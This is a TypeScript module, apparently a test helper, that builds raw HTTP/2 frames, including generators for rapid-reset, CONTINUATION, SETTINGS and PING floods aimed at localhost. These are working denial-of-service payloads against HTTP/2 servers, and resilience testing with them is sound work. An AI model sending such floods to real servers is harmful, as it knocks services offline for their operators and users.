/** HTTP/2 by hand, for floods that no client library would send. https://www.rfc-editor.org/rfc/rfc9113#section-4.1 */

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

const types = { data: 0, headers: 1, rstStream: 3, settings: 4, ping: 6, goAway: 7, continuation: 9 } as const;
type FrameType = keyof typeof types;
const endStream = 0x1;
const endHeaders = 0x4;
const cancel = 8;

function frame(type: FrameType, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(types[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Header fields, from HPACK's static table where that has them; `path` is of 126 bytes at most. */
const fields = (method: 'GET' | 'POST', path: string) =>
  Buffer.concat([
    Buffer.from([method === 'GET' ? 0x82 : 0x83, 0x87, 0x04, path.length]),
    Buffer.from(path),
    Buffer.from([0x41, 9]),
    Buffer.from('localhost'),
  ]);
const request = fields('GET', '/livez');

/** A whole GET. */
export const requestOn = (stream: number, path: string): Buffer => frame('headers', endStream | endHeaders, stream, fields('GET', path));

/** A POST whose body goes on. */
export const uploadOn = (stream: number, path: string): Buffer =>
  Buffer.concat([frame('headers', endHeaders, stream, fields('POST', path)), frame('data', 0, stream, Buffer.from('{}'))]);

export function resetOf(stream: number): Buffer {
  const code = Buffer.alloc(4);
  code.writeUInt32BE(cancel);
  return frame('rstStream', 0, stream, code);
}

/** A field that is not to be remembered, of 1 KiB. */
const field = Buffer.concat([Buffer.from([0x00, 5]), Buffer.from('x-fld'), Buffer.from([0x7f, 0x81, 0x07]), Buffer.alloc(1024, 'x')]);

/** How a proper client begins: with the preface and settings, and one request on stream 1. */
export const opening = Buffer.concat([preface, frame('settings', 0, 0), frame('headers', endStream | endHeaders, 1, request)]);

/** What follows `opening`, each `size` frames long. */
export const floods: Readonly<Record<string, (size: number) => Buffer>> = {
  'rapid reset': (size) =>
    Buffer.concat(
      Array.from({ length: size }, (_, n) => {
        const stream = 2 * n + 3;
        return Buffer.concat([frame('headers', endStream | endHeaders, stream, request), resetOf(stream)]);
      }),
    ),
  CONTINUATION: (size) =>
    Buffer.concat([frame('headers', endStream, 3, request), ...Array.from({ length: size }, () => frame('continuation', 0, 3, field))]),
  SETTINGS: (size) => {
    const setting = Buffer.alloc(6);
    setting.writeUInt16BE(4);
    setting.writeUInt32BE(65_535, 2);
    return Buffer.concat(Array.from({ length: size }, () => frame('settings', 0, 0, setting)));
  },
  PING: (size) => Buffer.concat(Array.from({ length: size }, () => frame('ping', 0, 0, Buffer.alloc(8)))),
};

/** The types of the frames that came, as far as they are whole. */
export function framesIn(bytes: Buffer): readonly (FrameType | 'other')[] {
  const found: (FrameType | 'other')[] = [];
  for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3)) {
    const type = bytes.readUInt8(at + 3);
    found.push((Object.keys(types) as FrameType[]).find((name) => types[name] === type) ?? 'other');
  }
  return found;
}
